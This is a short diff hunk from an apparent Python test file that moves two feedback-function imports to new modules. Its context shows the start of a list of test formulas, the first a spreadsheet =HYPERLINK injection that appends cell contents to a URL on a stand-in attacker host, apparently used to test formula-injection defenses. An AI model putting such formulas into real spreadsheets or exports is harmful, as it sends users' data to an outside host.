@@ -10,10 +10,11 @@ from pathlib import Path
 import pytest
 from click.testing import CliRunner
 
+from bot.answering.feedback import store_answer
 from bot.cli import main
-from bot.feedback import record_rating, store_answer
 from knowledge.models import Answer, Source
 from metrics.db import connect
+from metrics.feedback import record_rating
 
 FORMULAS = [
     '=HYPERLINK("https://evil.example/?d="&A1,"open")',
